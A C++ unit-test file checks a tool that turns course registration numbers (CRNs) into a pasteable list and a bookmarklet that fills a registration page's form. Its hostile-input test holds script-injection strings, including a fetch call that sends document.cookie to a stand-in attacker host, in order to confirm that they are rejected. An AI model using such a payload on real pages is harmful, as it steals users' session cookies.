#include "files/crn_texts.h"

#include <gtest/gtest.h>

#include "text/cp1254.h"

namespace kiremo::files {
namespace {

using namespace std::string_literals;

constexpr std::string_view kScriptEnd =
    "];for(var i=0;i<crn.length;i++){var d=document.getElementById(\"crn_id\"+(i+1));d.value=crn[i];}void(0);";

RowCrns Rows(std::initializer_list<std::pair<int, std::string>> committed) {
  RowCrns crns;
  for (const auto& [row, crn] : committed) crns[row - 1] = crn;
  return crns;
}

TEST(CrnTexts, ListAndScript) {
  struct Case {
    const char* name;
    RowCrns crns;
    std::string list;
    std::string array;
  };
  const Case cases[] = {
      {"rows 2 and 5", Rows({{2, "21345"}, {5, "30012"}}), "21345\r\n30012\r\n", R"("21345","30012")"},
      {"only row 10", Rows({{10, "40404"}}), "40404", R"("40404")"},
      {"rows 1 and 10", Rows({{1, "11111"}, {10, "40404"}}), "11111\r\n40404", R"("11111","40404")"},
      // A number would lose its leading zero, or be read as octal.
      {"a CRN starting with 0", Rows({{4, "01234"}}), "01234\r\n", R"("01234")"},
      {"none", Rows({}), "", ""},
  };
  for (const Case& c : cases) {
    EXPECT_EQ(CrnListText(c.crns), c.list) << c.name;
    EXPECT_EQ(CrnScriptText(c.crns), "javascript:var crn=[" + c.array + std::string(kScriptEnd)) << c.name;
  }
}

TEST(CrnTexts, ScriptHasNoBackslash) { EXPECT_EQ(CrnScriptText(Rows({{3, "12345"}})).find('\\'), std::string::npos); }

// The script runs on the registration page with the student's session: a
// CRN that is anything but digits, wherever it came from, never gets in.
TEST(CrnTexts, ScriptRefusesACrnThatIsNotDigitsAndNamesItsRow) {
  const std::string hostile[] = {
      "1,fetch('https://evil.example/?c='+document.cookie)",
      "1];alert(1);//",
      "\"+alert(1)+\"",
      "12 34",
      "1234\n",
      "-1234",
      "0x1F",
      "12345\0001"s,
  };
  for (const std::string& crn : hostile) {
    try {
      CrnScriptText(Rows({{2, "21345"}, {7, crn}}));
      ADD_FAILURE() << crn;
    } catch (const ScriptCrnError& e) {
      EXPECT_TRUE(std::string_view(e.what()).starts_with("7. satırdaki dersin CRN'si"_w)) << crn;
    }
  }
  // The plain list is only pasted as text; it keeps every CRN as it is.
  EXPECT_EQ(CrnListText(Rows({{10, hostile[0]}})), hostile[0]);
}

TEST(CrnTexts, ACrnIsFiveDigits) {
  EXPECT_TRUE(IsCrn("21345"));
  EXPECT_TRUE(IsCrn("01234"));
  for (const char* text : {"", "2134", "213456", "2134a", " 2134", "21\n34"}) EXPECT_FALSE(IsCrn(text)) << text;
}

}  // namespace
}  // namespace kiremo::files
